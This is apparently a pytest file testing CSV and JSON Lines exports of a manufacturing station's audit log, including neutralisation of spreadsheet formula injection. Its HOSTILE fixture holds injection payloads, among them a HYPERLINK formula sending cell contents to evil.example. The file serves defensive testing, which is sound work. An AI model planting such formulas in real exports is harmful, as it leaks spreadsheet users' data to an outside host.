"""Exports for quality records: CSV a spreadsheet opens safely, JSON Lines a program reads as is.

The expected rows are read from the SQLite file with plain SQL, independently of the station's code.
"""

from __future__ import annotations

import csv
import io
import json
import sqlite3
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from station.audit import EXPORT_FIELDS, AuditLog, UnitFilter
from station.cli import main
from station.cli.audit import write_atomically
from tests.helpers.audit import Clock, make_certificate, start

T0 = datetime(2026, 3, 2, 8, 0, tzinfo=UTC)
SECRET_EXCERPT = "pkcs11-tool --login --pin **** (masked upstream) token0"

# Cells a spreadsheet would run as a formula, and other awkward text.
HOSTILE = {
    "operator": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "batch": "+SUM(1,2)",
    "fixture": "@fixture",
    "message": '-2+3 failed, "quoted"\nsecond line',
}


@pytest.fixture
def db_path(tmp_path: Path) -> Path:
    path = tmp_path / "audit.db"
    clock = Clock(T0)
    with AuditLog(path, clock=clock) as log:
        plain = start(log, "202600000000001", batch="B-1", fixture="slot-1", operator="Zoë")
        log.record_step(
            plain.id,
            step="identify",
            attempt=1,
            outcome="passed",
            started_at=T0,
            ended_at=T0 + timedelta(seconds=2),
            excerpt=SECRET_EXCERPT,
        )
        log.pin_host_key(plain.id, key_type="ssh-ed25519", fingerprint="SHA256:hostkeyfingerprint")
        log.record_certificate(plain.id, certificate_pem=make_certificate("serial:202600000000001"))
        clock.advance(seconds=83.25)
        log.finish_unit(plain.id, result="passed")
        log.revoke(serial="202600000000001", reason="keyCompromise", by="qa")

        clock.advance(days=1)
        hostile = start(
            log,
            "202600000000002",
            batch=HOSTILE["batch"],
            fixture=HOSTILE["fixture"],
            operator=HOSTILE["operator"],
        )
        clock.advance(seconds=5)
        log.record_step(
            hostile.id,
            step="wipe",
            attempt=1,
            outcome="failed",
            started_at=T0,
            ended_at=T0,
            excerpt=SECRET_EXCERPT,
        )
        log.finish_unit(hostile.id, result="failed", failed_step="wipe", message=HOSTILE["message"])

        clock.advance(days=1)
        start(log, "202600000000003", batch="B-2", operator="\tTab", device="\rssh://root@127.0.0.4:2222")
    return path


def expected_rows(path: Path, where: str = "") -> list[dict[str, Any]]:
    """What an export must contain, straight from the tables."""
    raw = sqlite3.connect(path)
    raw.row_factory = sqlite3.Row
    rows = raw.execute(
        f"""
        SELECT u.id AS unit_id, u.serial, u.state, u.profile, u.device, u.fixture, u.batch, u.operator, u.station,
               u.started_at, u.ended_at, u.failed_step, u.message, u.attempt,
               c.serial_hex AS certificate_serial, c.fingerprint_sha256 AS certificate_fingerprint,
               c.revoked_at, u.reprovision_reason,
               (SELECT p.order_id FROM order_places p WHERE p.unit_id = u.id) AS order_id,
               (SELECT i.soc_id FROM unit_identity i WHERE i.unit_id = u.id ORDER BY i.id DESC LIMIT 1) AS soc_id
        FROM units u LEFT JOIN certificates c ON c.unit_id = u.id {where} ORDER BY u.id
        """
    ).fetchall()
    raw.close()
    result = []
    for row in rows:
        record = dict(row)
        if record["ended_at"] is None:
            record["duration_s"] = None
        else:
            elapsed = datetime.fromisoformat(record["ended_at"]) - datetime.fromisoformat(
                record["started_at"]
            )
            record["duration_s"] = round(elapsed.total_seconds(), 3)
        result.append({field: record[field] for field in EXPORT_FIELDS})
    return result


def as_csv_text(value: Any) -> str:
    return "" if value is None else str(value)


def read_csv(text: str) -> list[dict[str, str]]:
    assert text.startswith("\ufeff"), "Excel needs the BOM to read UTF-8"
    reader = csv.reader(io.StringIO(text[1:], newline=""))
    header = next(reader)
    assert tuple(header) == EXPORT_FIELDS
    return [dict(zip(header, row, strict=True)) for row in reader]


# ----------------------------------------------------------------------------------------------- CSV


def test_csv_has_exactly_the_rows_of_the_database(db_path: Path) -> None:
    out = io.StringIO(newline="")
    with AuditLog(db_path) as log:
        assert log.export_csv(out) == 3
    exported = read_csv(out.getvalue())

    def unneutralised(cell: str) -> str:
        return cell[1:] if cell[:2] in ("'=", "'+", "'-", "'@", "'\t", "'\r") else cell

    expected = [{field: as_csv_text(value) for field, value in row.items()} for row in expected_rows(db_path)]
    assert [{k: unneutralised(v) for k, v in row.items()} for row in exported] == expected
    assert exported[0]["duration_s"] == "83.25"
    assert exported[0]["operator"] == "Zoë"
    assert exported[0]["revoked_at"].startswith("2026-03-02T08:01:23")


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(db_path: Path) -> None:
    out = io.StringIO(newline="")
    with AuditLog(db_path) as log:
        log.export_csv(out)
    hostile, tabbed = read_csv(out.getvalue())[1:]
    for field, value in HOSTILE.items():
        assert hostile[field] == "'" + value
    assert tabbed["operator"] == "'\tTab"
    assert tabbed["device"] == "'\rssh://root@127.0.0.4:2222"
    # Plain cells are untouched.
    assert hostile["serial"] == "202600000000002"
    assert hostile["started_at"].startswith("2026-03-03")


def test_exports_hold_nothing_beyond_the_listed_columns(db_path: Path) -> None:
    csv_out, jsonl_out = io.StringIO(newline=""), io.StringIO()
    with AuditLog(db_path) as log:
        log.export_csv(csv_out)
        log.export_jsonl(jsonl_out, include_steps=True)
        pem = log.certificate_for_unit(1)
    assert pem is not None
    for text in (csv_out.getvalue(), jsonl_out.getvalue()):
        assert SECRET_EXCERPT not in text
        assert "SHA256:hostkeyfingerprint" not in text
        assert "BEGIN CERTIFICATE" not in text
        assert pem.spki_sha256 not in text
    for line in jsonl_out.getvalue().splitlines():
        assert set(json.loads(line)) == {*EXPORT_FIELDS, "steps"}


def test_export_filters_match_the_unit_list(db_path: Path) -> None:
    day_two = T0 + timedelta(days=1)
    with AuditLog(db_path) as log:
        all_filters: list[dict[str, Any]] = [
            {"batch": "B-1"},
            {"result": "failed"},
            {"since": day_two},
            {"until": day_two},
            {"since": day_two, "until": day_two + timedelta(hours=1)},
            {"serial_prefix": "2026000000000", "operator": "Zoë"},
        ]
        for filters in all_filters:
            out = io.StringIO(newline="")
            count = log.export_csv(out, **filters)
            listed = [u.id for u in reversed(log.units(**filters))]
            assert [int(row["unit_id"]) for row in read_csv(out.getvalue())] == listed
            assert count == len(listed)


def test_a_filter_built_from_options_or_a_request_is_the_same_filter_and_travels_as_text(
    db_path: Path,
) -> None:
    # `station units --serial … --result …` and `station audit export --from … --batch …` hand their parsed
    # options over as they are; the station service gets the same filter back from the request's text.
    day_two = T0 + timedelta(days=1)
    options = {"serial": "2026000000000", "result": "failed", "since": day_two, "limit": 20, "format": "csv"}
    built = UnitFilter.from_mapping(options)
    assert built == UnitFilter(serial_prefix="2026000000000", result="failed", since=day_two)
    assert built.to_mapping() == {"serial": "2026000000000", "result": "failed", "since": day_two.isoformat()}
    assert UnitFilter.from_mapping(built.to_mapping()) == built
    assert UnitFilter.from_mapping({"batch": "", "order": None, "operator": "Zoë"}) == UnitFilter(
        operator="Zoë"
    )
    with AuditLog(db_path) as log:
        whole, narrowed = io.StringIO(newline=""), io.StringIO(newline="")
        log.export_csv(whole, UnitFilter(batch="B-1", result="failed"))
        log.export_csv(narrowed, UnitFilter(batch="B-1"), result="failed")
        assert whole.getvalue() == narrowed.getvalue()
        listed = [u.id for u in reversed(log.units(batch="B-1", result="failed"))]
        assert [int(row["unit_id"]) for row in read_csv(whole.getvalue())] == listed


def test_an_empty_export_still_has_its_header(tmp_path: Path) -> None:
    out = io.StringIO(newline="")
    with AuditLog(tmp_path / "audit.db") as log:
        assert log.export_csv(out) == 0
    assert read_csv(out.getvalue()) == []


# ---------------------------------------------------------------------------------------- JSON Lines


def test_jsonl_round_trips_the_raw_values(db_path: Path) -> None:
    out = io.StringIO()
    with AuditLog(db_path) as log:
        assert log.export_jsonl(out) == 3
    lines = out.getvalue().splitlines()
    assert [json.loads(line) for line in lines] == expected_rows(db_path)
    assert json.loads(lines[1])["operator"] == HOSTILE["operator"]  # raw: programs read it, not spreadsheets


def test_jsonl_can_summarise_the_steps(db_path: Path) -> None:
    out = io.StringIO()
    with AuditLog(db_path) as log:
        log.export_jsonl(out, include_steps=True, result="passed")
    [record] = [json.loads(line) for line in out.getvalue().splitlines()]
    assert record["steps"] == [{"step": "identify", "attempt": 1, "outcome": "passed", "duration_s": 2.0}]


# ---------------------------------------------------------------------------------- station audit export


def test_station_audit_export_writes_csv_and_jsonl(
    db_path: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    home = db_path.parent
    csv_file, jsonl_file = tmp_path / "units.csv", tmp_path / "units.jsonl"

    assert main(["--home", str(home), "audit", "export", "--format", "csv", "--out", str(csv_file)]) == 0
    assert capsys.readouterr().out == f"exported 3 units to {csv_file}\n"
    assert len(read_csv(csv_file.read_text(encoding="utf-8"))) == 3

    assert (
        main(
            [
                "--home",
                str(home),
                "audit",
                "export",
                "--format",
                "jsonl",
                "--out",
                str(jsonl_file),
                "--result",
                "failed",
            ]
        )
        == 0
    )
    assert [json.loads(line)["serial"] for line in jsonl_file.read_text().splitlines()] == ["202600000000002"]
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith((".partial", ".tmp"))] == []


def test_station_audit_export_selects_local_days_and_batches(db_path: Path, tmp_path: Path) -> None:
    out = tmp_path / "march.jsonl"
    first_day = T0.astimezone().date().isoformat()
    args = ["--home", str(db_path.parent), "audit", "export", "--format", "jsonl", "--out", str(out)]

    assert main([*args, "--from", first_day, "--to", first_day]) == 0
    assert [json.loads(line)["serial"] for line in out.read_text().splitlines()] == ["202600000000001"]
    assert main([*args, "--batch", "B-2"]) == 0
    assert [json.loads(line)["serial"] for line in out.read_text().splitlines()] == ["202600000000003"]


def test_station_audit_export_refuses_bad_input_and_keeps_the_old_file(
    db_path: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "units.csv"
    out.write_text("previous export\n")
    args = ["--home", str(db_path.parent), "audit", "export", "--format", "csv", "--out", str(out)]

    assert main([*args, "--from", "2026-03-31", "--to", "2026-03-01"]) == 1
    assert "is not after --from" in capsys.readouterr().err
    assert main([*args, "--from", "yesterday"]) == 1
    assert "is not a date" in capsys.readouterr().err
    assert main([*args, "--steps"]) == 1
    assert out.read_text() == "previous export\n"
    with pytest.raises(SystemExit):
        main([*args[:-4], "--format", "xlsx", "--out", str(out)])


def test_an_export_that_fails_halfway_leaves_no_partial_file(tmp_path: Path) -> None:
    out = tmp_path / "units.csv"
    out.write_text("previous export\n")

    def breaks_halfway(stream: Any) -> int:
        stream.write("half a row,")
        raise OSError("USB stick pulled")

    with pytest.raises(OSError, match="USB stick"):
        write_atomically(out, breaks_halfway)
    assert out.read_text() == "previous export\n"
    assert [p.name for p in tmp_path.iterdir()] == ["units.csv"]
